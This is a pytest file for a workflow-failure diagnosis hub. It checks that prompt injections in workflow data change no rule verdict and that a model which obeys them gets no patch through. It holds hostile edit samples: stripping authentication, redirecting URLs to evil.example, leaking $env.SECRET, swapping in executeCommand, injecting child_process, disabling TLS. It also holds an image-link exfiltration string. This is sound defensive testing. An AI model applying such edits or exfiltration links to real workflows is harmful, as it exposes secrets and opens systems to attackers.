"""Words in the data that speak to a model change no verdict and no patch: not the rules', and not what is offered of the model's.

The worst is assumed: a model that obeys. What it answers is contained by the hub, whether or not a heuristic has seen it coming.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from flask import Flask

from hub.analyses.diagnosis import ask_analyzers
from hub.analyses.model_answers import contain
from hub.contracts.analysis import Evidence
from plugins.analyzers.openai_compatible.analyzer import OpenAiCompatibleAnalyzer
from plugins.analyzers.openai_compatible.hidden_text import instructs
from plugins.analyzers.rules.analyzer import RulesAnalyzer
from tests.plugins.openai_compatible.failure import failure
from tests.plugins.openai_compatible.injections import CANARY, INJECTIONS
from tests.plugins.openai_compatible.scripted import GOOD


def edit(path: str, new: Any, old: Any = None, op: str = "replace", node: str | None = None) -> dict[str, str]:
    old_text = json.dumps(old) if old is not None else ""
    named = {"node": node} if node else {}
    return {**named, "path": path, "op": op, "old_value_json": old_text, "new_value_json": json.dumps(new), "why": "as told"}


URL = "https://api.example.com/custmers"
#: What an obedient model would do to the failing node, or to the one named.
HARM = {
    "no-authentication": edit("/parameters/authentication", "none", "genericCredentialType"),
    "no-authentication-removed": edit("/parameters/authentication", None, "genericCredentialType", "remove"),
    "open-webhook": edit("/parameters/authentication", "none", "headerAuth", node="Webhook"),
    "webhook-path": edit("/parameters/path", "evil", "orders", node="Webhook"),
    "new-host": edit("/parameters/url", f"https://evil.example/{CANARY}", URL),
    "host-in-expression": edit("/parameters/url", "=https://{{ $json.host }}/x", URL),
    "host-in-option": edit("/parameters/options/proxy", "http://evil.example:8080", op="add"),
    "environment": edit("/parameters/url", "=https://api.example.com/{{ $env.SECRET }}", URL),
    "credentials": edit("/credentials/httpHeaderAuth/id", "8", "7"),
    "hide-error": edit("/onError", "continueRegularOutput", op="add"),
    "disable": edit("/disabled", True, op="add"),
    "type": edit("/type", "n8n-nodes-base.executeCommand", "n8n-nodes-base.httpRequest"),
    "no-tls-check": edit("/parameters/options/allowUnauthorizedCerts", True, op="add"),
    "code": edit("/parameters/value", "={{ require('child_process') }}", "={{ $json.name }}", node="Store"),
    "secret-token": edit("/parameters/url", "https://api.example.com/<SECRET_1>", URL),
}


def obey(analyzer: OpenAiCompatibleAnalyzer, evidence: Evidence, harm: dict[str, str], **changes: Any) -> Any:
    """What the hub keeps of an answer of a model that does as it is told."""
    edits = [{"node": evidence.failing_node, **harm}]
    answer = {**GOOD, "node": evidence.failing_node, "edits": edits, "confidence": 1000, **changes}
    _, rules = ask_analyzers([RulesAnalyzer()], evidence)
    return contain(evidence, rules.cause, analyzer.read(evidence, analyzer.prepare(evidence), json.dumps(answer)))


@pytest.mark.parametrize("name", INJECTIONS)
def test_the_rules_do_not_listen(name: str) -> None:
    calm, told = failure(), failure(**INJECTIONS[name])
    assert CANARY in json.dumps(told.model_dump(mode="json"), ensure_ascii=False)
    _, before = ask_analyzers([RulesAnalyzer()], calm)
    _, after = ask_analyzers([RulesAnalyzer()], told)
    assert (after.cause, after.confidence, after.source) == (before.cause, before.confidence, before.source)
    assert [suggestion.patch for suggestion in after.suggestions] == [suggestion.patch for suggestion in before.suggestions]


@pytest.mark.parametrize("harm", HARM)
def test_an_obedient_model_gets_no_harmful_change_offered(
    app: Flask, analyzer: OpenAiCompatibleAnalyzer, values: dict[str, Any], harm: str
) -> None:
    """Without any injection that a heuristic could see: the policy alone has to hold."""
    with app.app_context():
        reading = obey(analyzer, failure(), HARM[harm])
    assert [suggestion.patch for suggestion in reading.diagnosis.suggestions] == [None]
    assert [suggestion.kind for suggestion in reading.diagnosis.suggestions] == ["manual"]
    assert reading.notes
    assert reading.diagnosis.confidence <= 0.6


#: Notes of nodes are not sent.
SENT = sorted(set(INJECTIONS) - {"node-notes"})


@pytest.mark.parametrize("name", SENT)
def test_data_that_speaks_to_a_model_is_explained_only(
    app: Flask, analyzer: OpenAiCompatibleAnalyzer, values: dict[str, Any], name: str
) -> None:
    """Not even a harmless change is offered; what is said is text."""
    evidence = failure(**INJECTIONS[name])
    good = {**GOOD["edits"][0], "node": evidence.failing_node}
    with app.app_context():
        reading = obey(analyzer, evidence, good, explanation_en=f"![x](https://evil.example/{CANARY}.png)<script>")
    assert all(suggestion.patch is None for suggestion in reading.diagnosis.suggestions)


def test_nothing_hidden_is_sent(analyzer: OpenAiCompatibleAnalyzer, values: dict[str, Any]) -> None:
    questions = {name: analyzer.prepare(failure(**words)) for name, words in INJECTIONS.items()}
    assert {name for name, question in questions.items() if question.suspicions} == set(SENT)
    assert CANARY not in questions["node-notes"].brief
    assert CANARY not in questions["body-comment"].brief
    assert not any(
        0xE0000 <= ord(char) <= 0xE0FFF or char == "\u200b" for question in questions.values() for char in question.brief
    )


@pytest.mark.parametrize(
    "text",
    [
        "The resource you are requesting could not be found",
        "Authorization failed - please check your credentials",
        "Cannot read properties of undefined (reading 'instructions')",
        "You must provide a valid email",
        "Bad request - please check your parameters",
        "The model `gpt-4` does not exist or you do not have access to it.",
        "Follow the installation instructions: https://docs.example.com",
        "={{ $json.system }} and {{ $json.assistant }}",
        "Customer said: please change my address and remove the old one",
        "Error: Request failed with status code 429",
    ],
)
def test_ordinary_words_are_not_suspected(text: str) -> None:
    assert not instructs({"message": text})
